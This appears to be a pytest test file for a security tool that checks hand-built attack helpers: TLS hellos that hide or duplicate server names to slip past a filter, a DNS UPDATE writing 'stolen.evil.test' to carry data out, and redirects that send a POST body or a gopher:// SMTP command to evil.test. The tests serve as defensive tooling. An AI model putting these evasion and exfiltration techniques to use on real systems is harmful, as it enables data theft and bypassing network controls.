"""What attacks put together by hand, read by parsers that are not the attacks' own."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from types import ModuleType

import dns.message
import dns.opcode
import dns.update
import pytest

from stockade.errors import ProtocolViolation
from stockade.net.host import Host
from stockade.protocol.tls_hello import parse_client_hello
from stockade.prove.technique import ATTACKS_FOLDER


def load(name: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[ModuleType]:
    """A module as an attack imports it: from the attacks' own folder."""
    monkeypatch.syspath_prepend(str(ATTACKS_FOLDER))
    yield __import__(name)
    del sys.modules[name]


@pytest.fixture
def wire(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModuleType]:
    yield from load("wire", monkeypatch)


@pytest.fixture
def follow(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModuleType]:
    yield from load("follow", monkeypatch)


@pytest.mark.parametrize("size", [40, 16384])
def test_a_hello_in_records_of_any_size_is_a_hello(wire: ModuleType, size: int) -> None:
    own = wire.hello(wire.server_names(b"cover.test"), wire.encrypted_hello())
    for message, name in ((own, "cover.test"), (wire.library_hello("evil.test"), "evil.test")):
        parsed = parse_client_hello(wire.in_records(message, size))
        assert parsed is not None
        assert isinstance(parsed.name, Host)
        assert (str(parsed.name), parsed.has_ech) == (name, name == "cover.test")


def test_two_server_names_are_no_hello_that_can_be_read(wire: ModuleType) -> None:
    hello = wire.in_records(wire.hello(wire.server_names(b"allowed.test", b"evil.test")))
    with pytest.raises(ProtocolViolation):
        parse_client_hello(hello)
    assert hello.index(b"evil.test") < 200  # the witness looks at the first 200 bytes


def test_messages_say_what_the_attacks_mean_to_say(wire: ModuleType) -> None:
    two = dns.message.from_wire(wire.dns_message(wire.question("allowed.test"), wire.question("x.test", 16)))
    assert [rrset.to_text() for rrset in two.question] == ["allowed.test. IN A", "x.test. IN TXT"]
    record = wire.text_record("stolen.evil.test", "word")
    update = dns.message.from_wire(
        wire.dns_message(wire.question("evil.test", 6), opcode=5, authority=(record,))
    )
    assert isinstance(update, dns.update.UpdateMessage)
    assert update.opcode() == dns.opcode.UPDATE
    assert [rrset.to_text() for rrset in update.update] == ['stolen.evil.test. 60 IN TXT "word"']


ANSWERS = {
    "status": ("HTTP/1.1 302 Found\r\nLocation: http://a.test/\r\n\r\n", "http://a.test/"),
    "location without status": ("HTTP/1.1 200 OK\r\nLocation: http://a.test/\r\n\r\n", None),
    "refresh": ("HTTP/1.1 200 OK\r\nRefresh: 0;url=http://a.test/\r\n\r\n", "http://a.test/"),
    "meta": (
        "HTTP/1.1 200 OK\r\n\r\n<meta http-equiv=refresh content='0;url=http://a.test/'>",
        "http://a.test/",
    ),
    "script": ("HTTP/1.1 200 OK\r\n\r\n<script>location.href = 'http://a.test/'</script>", "http://a.test/"),
    "page": ("HTTP/1.1 200 OK\r\n\r\n<a href='http://a.test/'>a</a>", None),
}


@pytest.mark.parametrize(("reply", "target"), ANSWERS.values(), ids=ANSWERS)
def test_a_client_that_follows_goes_where_an_answer_sends_it(
    follow: ModuleType, reply: str, target: str | None
) -> None:
    assert follow.find_target(reply) == target


class Recorder:
    """A kit that only notes where it was sent; it answers each hop from a list."""

    def __init__(self, *replies: str) -> None:
        self.replies = list(replies)
        self.sent: list[tuple[str, int, str]] = []

    def get(
        self, path: str, host: str, method: str = "GET", headers: tuple[str, ...] = (), body: str = ""
    ) -> str:
        return f"{method} {path} {host} {body}"

    def talk(self, host: str, port: int, send: str, **_more: object) -> dict[str, str]:
        self.sent.append((host, port, send))
        return {"reply": self.replies.pop(0)} if self.replies else {}


@pytest.mark.parametrize(
    ("code", "second"),
    [(302, "GET / evil.test "), (303, "GET / evil.test "), (307, "POST / evil.test secret")],
)
def test_only_the_newer_redirects_take_the_body_along(follow: ModuleType, code: int, second: str) -> None:
    """RFC 9110 15.4: 307 keeps method and body, 303 must not, 302 does not in practice."""
    kit = Recorder(f"HTTP/1.1 {code} X\r\nLocation: http://evil.test/\r\n\r\n")
    follow.follow(kit, "http://allowed.test/form", "POST", "secret")
    assert [sent for _, _, sent in kit.sent] == ["POST /form allowed.test secret", second]


def test_a_reference_without_a_scheme_and_one_to_gopher_are_followed(follow: ModuleType) -> None:
    kit = Recorder(
        "HTTP/1.1 302 X\r\nLocation: //evil.test:8080/x\r\n\r\n",
        "HTTP/1.1 302 X\r\nLocation: gopher://evil.test:25/_EHLO\r\n\r\n",
    )
    follow.follow(kit, "http://allowed.test/")
    assert [(host, port) for host, port, _ in kit.sent[1:]] == [("evil.test", 8080), ("evil.test", 25)]
    assert kit.sent[-1][2] == "EHLO\r\n"
